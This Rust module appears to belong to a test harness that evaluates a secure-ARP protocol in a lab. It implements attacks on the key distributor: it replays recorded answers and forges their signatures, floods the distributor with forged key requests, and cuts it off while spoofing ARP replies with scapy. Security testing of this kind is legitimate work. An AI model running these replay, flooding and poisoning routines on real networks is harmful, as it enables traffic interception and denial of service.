//! Attack 59: the key distributor of S-ARP. Its answers are recorded and played again, others speak in its place, it is flooded, and it is
//! cut off.

use std::time::{Duration, SystemTime, UNIX_EPOCH};

use bump::Generator;
use wire::arp::{Arp, Operation};
use wire::ethernet::{HEADER_LEN, Header, MIN_LEN};
use wire::sarp::data::{CREDENTIAL_LEN, Question};
use wire::sarp::{Kind, Message, seal};
use wire::{EtherType, MacAddress};

use crate::attack::exhaustion::{arrived, strike};
use crate::attack::poisoning::{ARP_PROGRAM, Lie, poison};
use crate::attack::scene::{Finding, Scene};
use crate::failure::Failure;
use crate::guard::DISTRIBUTOR;
use crate::net::lan::INTERFACE;
use crate::net::{Frame, Host, process};

/// How long a recording lies before it is played, in whole seconds, and by how many of them a clock must be late then.
const LATE: Duration = Duration::from_secs(4);
const LATE_MIN_S: u64 = 3;
/// How often the recording is played, and how fast.
const ROUNDS: usize = 20;
const PER_SECOND: u32 = 100;
/// Forged questions, and how fast they come.
const QUESTIONS: usize = 2000;
const QUESTIONS_PER_SECOND: u32 = 2000;
/// So many signatures in a second and a half are a price.
const DEAR: u64 = 100;
/// Hosts in whose name is asked.
const HOSTS: u64 = 1000;
/// Where an S-ARP message has its kind (docs/s-arp.md, section 1).
const KIND_AT: usize = HEADER_LEN + 32;
const KEY_NOT_FOUND: u8 = 0x18;

/// 59 a: what the distributor told a some seconds ago, again; the same as "there is no such key"; and with a signature that nobody made.
/// The aim is a clock that goes back, and with it what is old becomes new.
pub fn recorded_answers(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, b, k) = (scene.host("a")?, scene.host("b")?, scene.host(DISTRIBUTOR)?);
    let spy = scene.spy()?;
    if let Some(daemon) = scene.daemon(a.name) {
        daemon.restart()?;
    }
    scene.lan.acquaint(&a, &b)?;
    let mut recorded = spy.stop()?;
    recorded.retain(|frame| frame.is_between(k.mac, a.mac) && frame.is(EtherType::ARP) && frame.0.len() > KIND_AT);
    if recorded.is_empty() {
        return Err(Failure::Unreadable("the distributor gave no answer that could be recorded".to_owned()));
    }
    process::pause(LATE)?;
    let round: Vec<Frame> = recorded.iter().cloned().chain(recorded.iter().flat_map(forged)).collect();
    let flood: Vec<Frame> = std::iter::repeat_n(round, ROUNDS).flatten().collect();
    let record = strike(scene, &flood, PER_SECOND)?;
    let late_s = seconds_late(scene, &a)?;
    Ok(Finding {
        reached: late_s >= LATE_MIN_S,
        harmless: late_s <= 1 && record.ping.lived(),
        struck: arrived(&record, &flood),
        said: format!("{} answers of k played again and forged, a's clock is {late_s} s late", recorded.len()),
        record,
    })
}

/// 59 b: questions in the name of made-up and other hosts. The aim is that the distributor signs for each.
pub fn flood_of_questions(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (m, k) = (scene.host("m")?, scene.host(DISTRIBUTOR)?);
    let mut random = Generator::from_seed([60; 32]);
    let flood: Vec<Frame> = (0..QUESTIONS).map(|_| Frame(forged_question(&m, &k, &mut random))).collect();
    let before = signed(scene)?;
    let record = strike(scene, &flood, QUESTIONS_PER_SECOND)?;
    let signatures = signed(scene)? - before;
    Ok(Finding {
        reached: signatures >= DEAR,
        // It answers honest hosts meanwhile.
        harmless: signatures < DEAR / 5,
        struck: arrived(&record, &flood),
        said: format!("k signed {signatures} times for {QUESTIONS} forged questions"),
        record,
    })
}

/// 59 c: the distributor cannot be reached. The aim is that a falls back to believing anybody, about a host that it knows and about one that
/// it does not; a and b, who have each other's key, are to find each other as ever.
pub fn cut_off(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (a, b, c, m) = (scene.host("a")?, scene.host("b")?, scene.host("c")?, scene.host("m")?);
    scene.lan.acquaint(&a, &b)?;
    // On a bare LAN there is none.
    let distributor = scene.host(DISTRIBUTOR).ok();
    distributor.as_ref().map(|k| scene.lan.unplug(k)).transpose()?;
    a.namespace.ip(&format!("neigh flush dev {INTERFACE}"))?;
    let lie = |claimed| Lie {
        ethernet_source: m.mac,
        ethernet_destination: a.mac,
        operation: "who-has",
        sender: (claimed, m.mac),
        target: (&a, MacAddress::ZERO),
    };
    let both = || {
        scene.scapy(&m, ARP_PROGRAM, &lie(&c).arguments(3))?;
        // Hosts repair each other's entries after some seconds, so it is looked at while it goes on.
        scene.launch_scapy(&m, ARP_PROGRAM, &lie(&b).arguments(3)).map(Some)
    };
    let mut finding = poison(scene, &b, both)?;
    let believes_unknown = a.neighbour(c.ip)?.is_some_and(|entry| entry.mac == m.mac);
    finding.reached &= believes_unknown;
    finding.harmless &= !believes_unknown;
    let word = if believes_unknown { "believes" } else { "does not believe" };
    let fate = if distributor.is_some() { "k is cut off" } else { "there is no k" };
    finding.said = format!("{fate}; {}, a {word} m about c", finding.said);
    Ok(finding)
}

/// A question for the key of any address, in the name of any host, with a check and a tag that nobody made.
pub fn forged_question(from: &Host, to: &Host, random: &mut Generator) -> Vec<u8> {
    let question = Question { host: 1 + u64::from_be_bytes(random.bytes()) % HOSTS, nonce: random.bytes() };
    let arp = Arp {
        operation: Operation::Request,
        sender_mac: from.mac,
        sender_ip: from.ip,
        target_mac: to.mac,
        target_ip: random.bytes::<4>().into(),
    };
    let unsigned = Message {
        arp,
        kind: Kind::KeyRequest,
        seconds: u32::try_from(unix_s()).unwrap_or(u32::MAX),
        data: &question.emit(),
        signature: &[],
    };
    let message = seal(unsigned.signed_bytes(), &random.bytes::<CREDENTIAL_LEN>());
    let header = Header { destination: to.mac, source: from.mac, ethertype: EtherType::ARP };
    let mut frame = [&header.emit()[..], &message].concat();
    frame.resize(frame.len().max(MIN_LEN), 0);
    frame
}

/// The same answer with another signature, and as "there is no such key".
fn forged(answer: &Frame) -> [Frame; 2] {
    let [mut unsigned, mut not_found] = [answer.clone(), answer.clone()];
    if let Some(last) = unsigned.0.last_mut() {
        *last ^= 1;
    }
    not_found.0[KIND_AT] = KEY_NOT_FOUND;
    [unsigned, not_found]
}

/// Signatures that the distributor has made since its start.
fn signed(scene: &mut Scene<'_>) -> Result<u64, Failure> {
    let daemon = scene.daemon(DISTRIBUTOR).map(|daemon| daemon.signatures()).transpose()?;
    Ok(daemon.map_or(0, |[made, _]| made))
}

/// By how much the S-ARP clock of `host` is behind this machine's, on which the distributor runs as well.
fn seconds_late(scene: &mut Scene<'_>, host: &Host) -> Result<u64, Failure> {
    let missing = || Failure::Unreadable(format!("{} says no S-ARP clock", host.name));
    let daemon = scene.daemon(host.name).ok_or_else(missing)?;
    let clock = daemon.status()?["sarp"]["clock_unix_s"].as_f64().ok_or_else(missing)?;
    Ok(unix_s().saturating_sub(clock as u64))
}

fn unix_s() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default().as_secs()
}
